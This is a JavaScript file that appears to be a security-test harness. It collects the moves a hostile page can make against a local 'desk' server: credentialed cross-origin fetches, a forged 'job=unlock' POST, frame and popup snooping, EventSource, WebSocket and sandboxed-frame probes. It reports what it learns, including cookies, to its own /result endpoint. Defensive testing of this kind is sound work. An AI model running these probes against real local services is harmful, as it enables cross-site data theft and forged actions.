// What a hostile page can try. Each tool says what the page learnt, in words that JSON can hold.
"use strict";

const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const within = (milliseconds, promise) => Promise.race([promise, pause(milliseconds).then(() => "silence")]);
const spoken = (error) => (error && error.name) || String(error);

// Runs the attack, and tells its own server what came of it.
async function attack(body) {
  let learnt;
  try {
    learnt = await body();
  } catch (error) {
    learnt = { failed: `${error}` };
  }
  const entries = performance.getEntriesByType("resource").map(entryOf);
  const said = JSON.stringify({ learnt, entries, cookie: cookies() });
  await fetch(`/result?from=${encodeURIComponent(location.origin)}`, { method: "POST", body: said });
}

function cookies() {
  try {
    return document.cookie;
  } catch (error) {
    return spoken(error);
  }
}

function entryOf(entry) {
  return { name: entry.name.startsWith(DESK) ? "desk" : "own", status: entry.responseStatus, size: entry.transferSize };
}

// fetch, in any way; the whole text of the answer where it can be read.
async function fetched(path, options) {
  try {
    const answer = await fetch(DESK + path, { credentials: "include", ...options });
    return { type: answer.type, status: answer.status, text: await answer.text(), headers: [...answer.headers] };
  } catch (error) {
    return spoken(error);
  }
}

function requested(path, method, prepare) {
  return within(20000, new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open(method, DESK + path);
    request.withCredentials = true;
    request.onload = () => done({ status: request.status, text: request.responseText });
    request.onerror = () => done("error");
    if (prepare) prepare(request);
    request.send(method === "POST" ? "job=unlock" : null);
  }));
}

// An element that loads something: which event comes, and what can be seen of what came.
function loaded(tag, attributes, look, patience = 20000) {
  return within(patience, new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done({ event: "load", seen: look ? looked(() => look(element)) : null });
    element.onerror = () => done("error");
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    (tag === "link" ? document.head : document.body).append(element);
  }));
}

function looked(look) {
  try {
    return look();
  } catch (error) {
    return spoken(error);
  }
}

// A frame of whatever kind: what of its document can be read.
async function framed(tag, attributes) {
  // Some embedded parts never tell anything.
  const event = await loaded(tag, attributes, undefined, 4000);
  await pause(300);
  const element = document.body.lastElementChild;
  const inside = element.contentWindow;
  return {
    event: event.event || event,
    document: looked(() => textOf(element)),
    address: looked(() => (inside ? String(inside.location.href) : "none")),
    frames: looked(() => (inside ? inside.length : 0)),
  };
}

function textOf(frame) {
  return frame.contentDocument ? frame.contentDocument.documentElement.textContent.trim() : "none";
}

// A window that this page has opened: what of it can be read or done while this page holds it.
async function opened(address, wait = 1500, act) {
  const page = window.open(address);
  if (!page) return "not opened";
  // A busy computer takes its time to leave the empty page that each window begins with, and nothing is shown before.
  for (let tries = 0; tries < 200 && looked(() => page.location.href) === "about:blank"; tries++) await pause(50);
  await pause(wait);
  const seen = {
    closed: page.closed,
    document: looked(() => page.document.documentElement.textContent),
    address: looked(() => String(page.location.href)),
    frames: looked(() => page.length),
    name: looked(() => page.name),
    storage: looked(() => page.localStorage.length),
    history: looked(() => page.history.length),
  };
  if (act) seen.act = await looked(() => act(page));
  looked(() => page.close());
  return seen;
}

function streamed(path) {
  return within(20000, new Promise((done) => {
    const source = new EventSource(DESK + path, { withCredentials: true });
    const end = (word) => () => {
      done({ word, state: source.readyState });
      source.close();
    };
    source.onopen = end("open");
    source.onmessage = end("message");
    for (const name of ["readers", "session"]) source.addEventListener(name, end("told"));
    source.onerror = end("error");
  }));
}

function socketed(path) {
  return within(20000, new Promise((done) => {
    const socket = new WebSocket(DESK.replace("http:", "ws:") + path);
    socket.onopen = () => done("open");
    socket.onmessage = (event) => done(String(event.data));
    socket.onclose = (event) => done({ code: event.code, reason: event.reason });
  }));
}

// A form, sent into a frame or a window.
async function posted(path, fields, kind, target, method = "POST") {
  const name = `target${Math.random()}`;
  if (target === "frame") {
    const frame = document.createElement("iframe");
    frame.name = name;
    document.body.append(frame);
  }
  const form = document.createElement("form");
  form.method = method;
  form.action = path.startsWith("http") ? path : DESK + path;
  form.enctype = kind;
  form.target = target === "frame" ? name : target;
  for (const [field, value] of Object.entries(fields)) {
    const input = document.createElement("input");
    input.name = field;
    input.value = value;
    form.append(input);
  }
  document.body.append(form);
  form.submit();
  await pause(1200);
  return looked(() => {
    const frame = document.getElementsByName(name)[0];
    return frame && frame.contentDocument ? frame.contentDocument.documentElement.textContent.trim() : "unreadable";
  });
}

// What a page without an origin of its own can do: it runs in a frame that is cut off from everything.
function cutOff(script, wait = 4000) {
  return within(wait, new Promise((done) => {
    addEventListener("message", (event) => done(event.data));
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms allow-popups";
    frame.srcdoc = `<body><script>const DESK = ${JSON.stringify(DESK)}, GIVEN = ${JSON.stringify(GIVEN)};<\/script>`
      + `<script>(async () => { ${script} })().then((value) => parent.postMessage(value, "*"),`
      + ` (error) => parent.postMessage(error.name, "*"));<\/script>`;
    document.body.append(frame);
  }));
}
